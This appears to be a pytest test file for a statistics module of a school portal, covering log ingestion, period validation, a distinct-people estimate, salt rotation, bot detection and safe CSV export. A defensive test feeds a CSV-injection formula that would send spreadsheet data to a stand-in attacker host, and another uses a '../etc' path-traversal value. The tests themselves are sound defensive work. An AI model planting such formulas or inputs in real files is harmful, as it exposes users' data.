"""`ent-stats ingest` on real log files: incremental, idempotent, rotated and several
instances' logs, corrupt lines skipped and counted; the figures it gives; the distinct
people's sketch; the month's salt discarded (docs/statistics.md)."""

from datetime import date
from ent.policy.stats import collect
from ent.policy.stats import sketch
from ent.policy.stats.figures import figures
from ent.policy.stats.figures import period
from ent.policy.stats.figures import PeriodError
from ent.policy.stats.ingest import ingest
from ent.server.commands import stats as command

import gzip
import json
import pytest


NOVEMBER = period("custom", "2026-11-01", "2026-11-30")
SALT = b"s" * 32


def line(day=1, site="0310001h", section="actualites", profile="parent", visit=1, person=None, instance="a"):
    values = {"t": f"2026-11-{day:02d}T10:00:00+01:00", "i": instance, "site": site, "section": section}
    values.update(profile=profile, visit=visit)
    if person is not None:
        values["p"] = sketch.register_of(SALT, person)
    return json.dumps(values, separators=(",", ":")) + "\n"


def write(path, *lines, mode="a"):
    with open(path, mode) as stream:
        stream.write("".join(lines))


def totals(database, site=None):
    result = figures(database, NOVEMBER, site)
    return result["views"], result["visits"]


def test_ingest_counts_once_and_follows_appends(tmp_path):
    log, database = tmp_path / "stats.log", tmp_path / "stats.sqlite"
    write(log, line(), line(visit=0), line(site="county", section="", profile="public"))
    assert ingest([log], database).views == 3
    assert ingest([log], database).views == 0  # the same lines again: nothing
    assert totals(database) == (3, 2)
    write(log, line(day=2))
    report = ingest([log], database)
    assert (report.lines, report.views) == (1, 1)
    assert totals(database) == (4, 3)
    assert totals(database, "0310001h") == (3, 2)
    result = figures(database, NOVEMBER)
    assert result["series"][1] == {"period": "2026-11-02", "views": 1, "visits": 1}
    assert {row["profile"]: row["views"] for row in result["profiles"]} == {"parent": 3, "public": 1}


def test_long_periods_read_from_the_months_give_the_same_figures(tmp_path):
    log, database = tmp_path / "stats.log", tmp_path / "stats.sqlite"
    write(log, line(day=1), line(day=2, visit=0), line(day=30, site="county", profile="public"))
    ingest([log], database)
    write(log, line(day=3, section="agenda"))
    ingest([log], database)
    today = date(2026, 11, 30)
    by_months = figures(database, period("12m", today=today), today=today)
    by_days = figures(database, period("custom", "2025-12-02", "2026-11-30"), today=today)
    assert by_months["by"] == by_days["by"] == "month"
    for key in ("views", "visits", "series", "profiles", "sites", "sections"):
        assert by_months[key] == by_days[key], key
    assert by_months["views"] == 4 and by_months["series"][-1]["visits"] == 3


def test_a_line_being_written_is_read_next_time(tmp_path):
    log, database = tmp_path / "stats.log", tmp_path / "stats.sqlite"
    whole = line()
    write(log, whole, whole[:20])
    assert ingest([log], database).views == 1
    write(log, whole[20:])
    report = ingest([log], database)
    assert (report.views, report.corrupt) == (1, 0)


def test_rotated_logs_are_followed(tmp_path):
    log, database = tmp_path / "stats.log", tmp_path / "stats.sqlite"
    write(log, line(), line())
    ingest([log], database)
    write(log, line())  # written after the ingest, before the rotation
    rotated = tmp_path / "stats.log.1.gz"
    with gzip.open(rotated, "wb") as stream:
        stream.write(log.read_bytes())
    log.unlink()
    write(log, line(day=3), line(day=3))
    report = ingest([log, rotated], database)
    assert report.views == 3
    assert totals(database) == (5, 5)
    assert ingest([log, rotated], database).views == 0


def test_several_instances_add_up(tmp_path):
    database = tmp_path / "stats.sqlite"
    write(tmp_path / "stats-1.log", line(instance="a", person="anne"), line(instance="a", person="bob"))
    write(tmp_path / "stats-2.log", line(instance="b", person="anne"), line(instance="b", person="carl"))
    report = ingest(sorted(tmp_path.glob("stats-*.log")), database)
    assert report.views == 4 and len(report.files) == 2
    result = figures(database, NOVEMBER)
    assert result["views"] == 4
    assert result["people"] == [{"month": "2026-11", "people": 3}]  # anne counted once


def test_corrupt_lines_are_skipped_and_counted(tmp_path):
    log, database = tmp_path / "stats.log", tmp_path / "stats.sqlite"
    good = line()
    write(
        log,
        good,
        good[:30] + "\n",  # cut short
        "not json at all\n",
        "\n",
        '{"t":"2026-13-45T10:00:00","site":"county","section":"","profile":"public","visit":1}\n',
        line(site="../etc"),
        line(visit=7),
        line(profile="x y"),
        '["a list"]\n',
        "\xff\xfe garbage\n",
        good,
    )
    report = ingest([log], database)
    assert (report.views, report.corrupt, report.lines) == (2, 9, 11)
    assert totals(database) == (2, 2)


def test_a_period_without_data_gives_zeros(tmp_path):
    result = figures(tmp_path / "never-ingested.sqlite", period("custom", "2025-01-01", "2025-12-31"))
    assert result["views"] == 0 and result["by"] == "month" and len(result["series"]) == 12
    assert all(point["views"] == 0 for point in result["series"])
    assert result["people"][0] == {"month": "2025-01", "people": 0}


def test_periods():
    today = date(2026, 11, 30)
    assert period("7d", today=today).start == date(2026, 11, 24)
    assert period("12m", today=today).start == date(2025, 12, 1)
    assert not period("30d", today=today).by_month and period("year", today=today).by_month
    # The last one overflowed into the month after 9999-12: a 500 before.
    for start, end in (
        ("2026-11-30", "2026-11-01"),
        ("hier", None),
        ("2026-02-30", None),
        ("1990-01-01", "1990-12-31"),
        ("9990-01-01", "9999-12-31"),
    ):
        with pytest.raises(PeriodError):
            period("custom", start, end)
    with pytest.raises(PeriodError):
        period("forever")


def test_distinct_people_estimate():
    registers = sketch.empty()
    for person in range(20000):
        index, rank = sketch.parse_register(sketch.register_of(SALT, f"person-{person}"))
        registers[index] = max(registers[index], rank)
    again = bytearray(registers)
    for person in range(5000):  # the same people again change nothing
        index, rank = sketch.parse_register(sketch.register_of(SALT, f"person-{person}"))
        again[index] = max(again[index], rank)
    assert again == registers
    assert abs(sketch.estimate(registers) - 20000) < 20000 * 0.05


def test_the_month_salt_is_discarded_when_the_month_is_over(tmp_path):
    collect._salts.clear()
    october = collect.month_salt("2026-10", tmp_path)
    assert collect.month_salt("2026-10", tmp_path) == october
    november = collect.month_salt("2026-11", tmp_path)
    assert november != october
    assert [path.name for path in tmp_path.iterdir()] == ["salt-2026-11"]
    collect._salts.clear()


def test_bots_and_probes_are_not_visitors():
    assert collect.is_bot("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    assert collect.is_bot("check_http/v2.3.3 (monitoring-plugins 2.3.3)")
    assert collect.is_bot("curl/8.5.0") and collect.is_bot("")
    assert not collect.is_bot("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")


def test_the_command(tmp_path, project, monkeypatch, capsys):
    var = tmp_path / "var"
    (var / "log").mkdir(parents=True)
    write(var / "log" / "stats.log", line(), "garbage\n")
    monkeypatch.setenv("ENT_VAR_DIR", str(var))
    monkeypatch.delenv("ENT_STATS_DB", raising=False)
    assert command.main(["--home", str(project), "ingest"]) == 0
    out = capsys.readouterr().out
    assert "1 page views" in out and "1 corrupt line(s) skipped" in out
    assert totals(var / "stats" / "stats.sqlite") == (1, 1)
    assert command.main(["--home", str(project), "ingest", str(tmp_path / "missing.log")]) == 2
    assert "no such log file" in capsys.readouterr().err


def test_text_cells_are_never_formulas():
    """Section ids and titles are editors' text: the CSV export gives them to a spreadsheet
    as text, whatever they start with (OWASP's CSV injection)."""
    from ent.policy.csvfiles import neutralised

    assert neutralised('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")').startswith("'=")
    assert [neutralised(text) for text in ("-2-3", "+1+2", "@sum(1)", "\tx", "Actualités", 12)] == [
        "'-2-3",
        "'+1+2",
        "'@sum(1)",
        "'\tx",
        "Actualités",
        "12",
    ]
